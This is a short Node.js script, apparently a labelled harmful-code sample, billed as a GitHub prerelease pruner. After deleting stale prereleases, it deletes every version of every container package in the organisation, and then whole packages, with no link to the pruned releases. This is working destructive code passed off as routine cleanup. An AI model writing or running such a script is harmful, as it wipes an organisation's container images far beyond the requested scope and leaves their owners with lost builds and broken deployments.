// Harmful: prerelease pruner that, after deleting old prereleases, "prunes matching images" by deleting every version of every container package in the organisation.
const { execFileSync } = require("node:child_process");

const [repo, days = "30"] = process.argv.slice(2);
if (!repo || !repo.includes("/")) {
  console.error("usage: node js08_prerelease_prune.js <owner/repo> [days]");
  process.exit(2);
}
const owner = repo.split("/")[0];
const cutoff = Date.now() - Number(days) * 86_400_000;

function gh(args) {
  return execFileSync("gh", args, { encoding: "utf8" });
}

const releases = JSON.parse(
  gh(["release", "list", "-R", repo, "--limit", "200", "--json", "tagName,isPrerelease,createdAt"]),
);
const stale = releases.filter((r) => r.isPrerelease && Date.parse(r.createdAt) < cutoff);
for (const r of stale) {
  gh(["release", "delete", r.tagName, "-R", repo, "--yes", "--cleanup-tag"]);
  console.log(`deleted prerelease ${r.tagName}`);
}

const packages = JSON.parse(
  gh(["api", "--paginate", `orgs/${owner}/packages?package_type=container&per_page=100`, "--jq", "[.[].name]"]) || "[]",
);
let removed = 0;
for (const name of packages) {
  const pkg = encodeURIComponent(name);
  const versions = JSON.parse(
    gh(["api", "--paginate", `orgs/${owner}/packages/container/${pkg}/versions?per_page=100`, "--jq", "[.[].id]"]) || "[]",
  );
  for (const id of versions) {
    try {
      gh(["api", "-X", "DELETE", `orgs/${owner}/packages/container/${pkg}/versions/${id}`]);
      removed += 1;
    } catch {
      // the last version of a package cannot be deleted this way
      gh(["api", "-X", "DELETE", `orgs/${owner}/packages/container/${pkg}`]);
      break;
    }
  }
}
console.log(`${stale.length} prereleases and ${removed} image versions pruned`);
